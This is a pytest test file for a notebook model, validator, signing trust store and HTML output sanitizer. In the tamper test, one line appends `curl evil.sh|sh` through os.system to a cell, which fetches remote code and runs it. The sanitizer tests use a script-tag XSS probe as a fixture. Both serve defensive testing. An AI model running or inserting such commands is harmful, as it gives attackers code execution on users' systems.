@@ -1,0 +1,212 @@
+"""Tests for the notebook document model, validation, and trust store."""
+
+import json
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from repro.nbformat import (
+    CodeCell,
+    MarkdownCell,
+    Notebook,
+    NotebookSignatureStore,
+    output_error,
+    output_execute_result,
+    output_stream,
+    validate_notebook,
+)
+from repro.nbformat.trust import sanitize_untrusted_outputs
+from repro.util.errors import ValidationError
+
+
+def sample_notebook() -> Notebook:
+    nb = Notebook.new()
+    nb.add_markdown("# Analysis")
+    cell = nb.add_code("x = 1\nprint(x)")
+    cell.outputs.append(output_stream("stdout", "1\n"))
+    cell.outputs.append(output_execute_result({"text/plain": "1"}, 1))
+    cell.execution_count = 1
+    return nb
+
+
+class TestModel:
+    def test_new_has_kernelspec(self):
+        nb = Notebook.new(kernel_name="python3")
+        assert nb.metadata["kernelspec"]["name"] == "python3"
+
+    def test_json_roundtrip(self):
+        nb = sample_notebook()
+        nb2 = Notebook.from_json(nb.to_json())
+        assert nb2.to_json() == nb.to_json()
+
+    def test_roundtrip_preserves_cells(self):
+        nb2 = Notebook.from_json(sample_notebook().to_json())
+        assert len(nb2.cells) == 2
+        assert isinstance(nb2.cells[0], MarkdownCell)
+        assert isinstance(nb2.cells[1], CodeCell)
+        assert nb2.cells[1].execution_count == 1
+
+    def test_source_as_list_of_lines(self):
+        doc = sample_notebook().to_dict()
+        doc["cells"][1]["source"] = ["x = 1\n", "print(x)"]
+        nb = Notebook.from_dict(doc)
+        assert nb.code_cells[0].source == "x = 1\nprint(x)"
+
+    def test_clear_outputs(self):
+        nb = sample_notebook()
+        nb.clear_outputs()
+        assert nb.code_cells[0].outputs == []
+        assert nb.code_cells[0].execution_count is None
+
+    def test_all_source(self):
+        nb = sample_notebook()
+        assert "print(x)" in nb.all_source()
+        assert "# Analysis" not in nb.all_source()
+
+    def test_unknown_cell_type_rejected(self):
+        with pytest.raises(ValueError):
+            Notebook.from_dict({"cells": [{"cell_type": "exploit"}]})
+
+    def test_missing_cells_rejected(self):
+        with pytest.raises(ValueError):
+            Notebook.from_dict({"metadata": {}})
+
+    def test_total_output_bytes_positive(self):
+        assert sample_notebook().total_output_bytes() > 0
+
+    @given(st.lists(st.text(max_size=80), max_size=10))
+    def test_property_roundtrip_any_sources(self, sources):
+        nb = Notebook.new()
+        for s in sources:
+            nb.add_code(s)
+        nb2 = Notebook.from_json(nb.to_json())
+        assert [c.source for c in nb2.code_cells] == sources
+
+
+class TestValidation:
+    def test_valid_notebook(self):
+        assert validate_notebook(sample_notebook().to_dict()) == []
+
+    def test_not_an_object(self):
+        assert validate_notebook([1, 2, 3]) != []
+
+    def test_missing_cells(self):
+        assert any("cells" in p for p in validate_notebook({"metadata": {}}))
+
+    def test_bad_cell_type(self):
+        doc = {"cells": [{"cell_type": "evil", "source": ""}]}
+        assert any("unknown cell_type" in p for p in validate_notebook(doc))
+
+    def test_markdown_with_outputs_invalid(self):
+        doc = {"cells": [{"cell_type": "markdown", "source": "", "outputs": []}]}
+        assert any("must not have outputs" in p for p in validate_notebook(doc))
+
+    def test_bad_stream_name(self):
+        doc = {
+            "cells": [
+                {
+                    "cell_type": "code",
+                    "source": "",
+                    "outputs": [{"output_type": "stream", "name": "stdweird", "text": ""}],
+                }
+            ]
+        }
+        assert any("stdout/stderr" in p for p in validate_notebook(doc))
+
+    def test_error_output_requires_fields(self):
+        doc = {
+            "cells": [
+                {"cell_type": "code", "source": "", "outputs": [{"output_type": "error"}]}
+            ]
+        }
+        problems = validate_notebook(doc)
+        assert any("ename" in p for p in problems)
+
+    def test_wrong_nbformat_version(self):
+        doc = {"cells": [], "nbformat": 3}
+        assert any("unsupported nbformat" in p for p in validate_notebook(doc))
+
+    def test_strict_raises(self):
+        with pytest.raises(ValidationError):
+            validate_notebook({"cells": "nope"}, strict=True)
+
+    def test_execution_count_type(self):
+        doc = {"cells": [{"cell_type": "code", "source": "", "execution_count": "one", "outputs": []}]}
+        assert any("execution_count" in p for p in validate_notebook(doc))
+
+
+class TestTrust:
+    def test_sign_then_check(self):
+        store = NotebookSignatureStore(b"notary-key")
+        nb = sample_notebook()
+        store.sign(nb)
+        assert store.check(nb)
+
+    def test_unsigned_not_trusted(self):
+        store = NotebookSignatureStore(b"notary-key")
+        assert not store.check(sample_notebook())
+
+    def test_tamper_breaks_trust(self):
+        store = NotebookSignatureStore(b"notary-key")
+        nb = sample_notebook()
+        store.sign(nb)
+        nb.code_cells[0].source += "\nimport os; os.system('curl evil.sh|sh')"
+        assert not store.check(nb)
+
+    def test_output_tamper_breaks_trust(self):
+        store = NotebookSignatureStore(b"k")
+        nb = sample_notebook()
+        store.sign(nb)
+        nb.code_cells[0].outputs.append({"output_type": "display_data", "data": {"text/html": "<script>"}, "metadata": {}})
+        assert not store.check(nb)
+
+    def test_unsign(self):
+        store = NotebookSignatureStore(b"k")
+        nb = sample_notebook()
+        store.sign(nb)
+        store.unsign(nb)
+        assert not store.check(nb)
+
+    def test_lru_eviction(self):
+        store = NotebookSignatureStore(b"k", max_entries=2)
+        nbs = []
+        for i in range(3):
+            nb = Notebook.new()
+            nb.add_code(f"x = {i}")
+            store.sign(nb)
+            nbs.append(nb)
+        assert not store.check(nbs[0])  # evicted
+        assert store.check(nbs[2])
+        assert len(store) == 2
+
+    def test_different_key_different_store(self):
+        nb = sample_notebook()
+        s1 = NotebookSignatureStore(b"k1")
+        s1.sign(nb)
+        s2 = NotebookSignatureStore(b"k2")
+        assert not s2.check(nb)
+
+
+class TestSanitize:
+    def test_strips_unsafe_mimetypes(self):
+        nb = Notebook.new()
+        cell = nb.add_code("display(HTML(...))")
+        cell.outputs.append(
+            {
+                "output_type": "display_data",
+                "data": {"text/html": "<script>alert(1)</script>", "text/plain": "safe"},
+                "metadata": {},
+            }
+        )
+        removed = sanitize_untrusted_outputs(nb)
+        assert removed == 1
+        data = nb.code_cells[0].outputs[0]["data"]
+        assert "text/html" not in data
+        assert data["text/plain"] == "safe"
+
+    def test_error_outputs_untouched(self):
+        nb = Notebook.new()
+        cell = nb.add_code("1/0")
+        cell.outputs.append(output_error("ZeroDivisionError", "division by zero", []))
+        assert sanitize_untrusted_outputs(nb) == 0
